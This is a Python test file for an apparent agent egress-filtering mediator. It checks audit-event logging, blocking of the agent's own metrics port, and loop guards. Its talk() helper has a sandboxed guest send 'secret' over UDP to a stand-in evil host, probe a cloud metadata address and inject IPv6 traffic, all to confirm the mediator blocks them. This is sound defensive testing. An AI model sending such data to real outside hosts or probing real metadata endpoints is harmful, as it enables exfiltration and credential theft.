"""Every event of the record, written by a real mediator; its lines are held against the schema when it ends."""

import os
import signal
import socket
from contextlib import AbstractContextManager, ExitStack, suppress
from dataclasses import replace
from pathlib import Path

import pytest
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether
from tests.kernel.conftest import MakeWorkspace
from tests.kernel.plain_server import answering
from tests.kernel.workspace import Workspace

from microagent.api.limits import DEFAULT_LIMITS
from microagent.api.link import GATEWAY_MAC, GUEST_MAC
from microagent.audit.record import Event
from microagent.demo import world
from microagent.demo.internet import Internet
from microagent.demo.oracle import Destination, Oracle

pytestmark = pytest.mark.kernel

METRICS = f"{world.HOST}:9464"
LIMITS = replace(DEFAULT_LIMITS, udp_idle_seconds=1, dns_seconds=1, connections=2)


def talk(lab: Workspace) -> None:
    """What a workload does that makes one record of each kind."""
    curl = lab.guest.curl
    assert curl("https://api.ok.test/").stdout == "hello from api.ok.test\n"
    assert "name_not_listed" in curl("--resolve", f"evil.test:80:{world.EVIL}", "http://evil.test/").stdout
    assert "REFUSED" in lab.guest.dig("evil.test")
    lab.guest.tcp(world.METADATA, 80, b"GET / HTTP/1.0\r\n\r\n", seconds=1)
    assert lab.guest.udp(world.TIME, world.TIME_PORT, b"ping").data == b"ping"
    lab.guest.udp(world.EVIL, 5000, b"secret", seconds=1)
    lab.guest.udp(world.METADATA, 5000, b"secret", seconds=1)
    assert lab.guest.run("curl", "-sS", "-m", "5", "https://api.ok.test/").returncode in (35, 60)
    assert "upstream_untrusted" in curl("https://bad-certificate.test/").stdout
    assert curl("http://closed.test/").stdout.startswith('{"error"')
    assert curl("--resolve", f"agent.ok.test:9464:{world.API}", "http://agent.ok.test:9464/").stdout.startswith("{")
    lab.guest.inject(bytes(Ether(src=GUEST_MAC, dst=GATEWAY_MAC) / IPv6(dst=world.EVIL_V6)))
    lab.wait_for("egress_drop", what="ipv6")
    lab.wait_for("egress_udp_close", dst=f"{world.TIME}:{world.TIME_PORT}")

    def crowd() -> None:
        with ExitStack() as streams, suppress(ConnectionResetError):
            for _ in range(4):
                streams.enter_context(socket.create_connection((world.API, 443), timeout=5))

    lab.guest.call(crowd)
    lab.wait_for("egress_cap_exceeded", limit="connections")


def test_every_event_is_written_and_fits_the_schema(workspace: MakeWorkspace) -> None:
    lab = workspace(
        allow=["api.ok.test", "agent.ok.test", "bad-certificate.test", "closed.test", world.TIME, world.HOST],
        limits=LIMITS,
        own_endpoints=[METRICS],
    )
    talk(lab)
    trial = {"who": "doctor", "checks": ["metadata"], "failed": [], "first": "2026-01-02T03:04:05.000006Z", "host": "a"}
    lab.room.call(lab.mediator.record("enforcement_verified", trial))
    lab.change_policy(allow=["api.ok.test"])
    os.kill(lab.mediator.pid, signal.SIGKILL)
    lab.spawn_mediator()
    lab.room.call(lab.mediator.stop("the end"))

    deaf = workspace(allow=["api.ok.test"], name="deaf", resolvers=[world.SILENT], limits=LIMITS)
    deaf.guest.dig("api.ok.test")
    deaf.wait_for("egress_dns_error")
    assert sum(record.get("minted", 0) for record in lab.records("egress_close", "mediator_down")) == 2
    written = {record["event"] for record in (*lab.records(), *deaf.records())}
    assert {str(event) for event in Event} - written == set()


def served(internet: Internet, port: int) -> AbstractContextManager[list[bytes]]:
    """Something on the host that answers "here" on a port, and what it has heard."""
    said = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nhere"
    return answering(internet.host, (world.HOST, port), lambda _: said)


def test_no_entry_opens_the_agents_own_port(internet: Internet, oracle: Oracle, workspace: MakeWorkspace) -> None:
    lab = workspace(allow=[world.HOST], own_endpoints=[METRICS])
    with served(internet, 9464) as agent, served(internet, 9465) as other:
        assert lab.guest.curl(f"http://{world.HOST}:9465/").stdout == "here"
        answer = lab.guest.curl("-i", f"http://{world.HOST}:9464/")
        assert answer.stdout.startswith("HTTP/1.1 403"), answer
        assert (len(agent), len(other)) == (0, 1)
    record = lab.wait_for("egress_loop_guard", reason="loop", dst=METRICS)
    assert record["id"] in answer.stdout
    assert oracle.leaks(()) == ()


def test_a_flow_never_becomes_its_own_server(internet: Internet, oracle: Oracle, workspace: MakeWorkspace) -> None:
    """With one port to dial from, a dial of that port on the host's own address connects to itself."""
    lab = workspace(allow=[world.HOST, world.TIME])

    ports = Path("/proc/sys/net/ipv4/ip_local_port_range")

    def one_port() -> None:
        ports.write_text("40000 40000")
        with socket.socket() as itself:  # the positive control: that is what the kernel does
            itself.connect((world.HOST, 40000))
            assert itself.getsockname() == itself.getpeername()
            itself.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")

    internet.host.run(one_port)
    assert lab.guest.tcp(world.HOST, 40000, b"echo", seconds=2).data == b""
    assert lab.guest.udp(world.HOST, 40000, b"echo", seconds=2).error == "ConnectionRefusedError"
    lab.wait_for("egress_loop_guard", proto="tcp", dst=f"{world.HOST}:40000")
    lab.wait_for("egress_loop_guard", proto="udp", dst=f"{world.HOST}:40000")
    internet.host.run(lambda: ports.write_text("32768 60999"))
    assert lab.guest.udp(world.TIME, world.TIME_PORT, b"ping").data == b"ping"
    assert oracle.leaks({Destination("udp", world.TIME, world.TIME_PORT)}) == ()
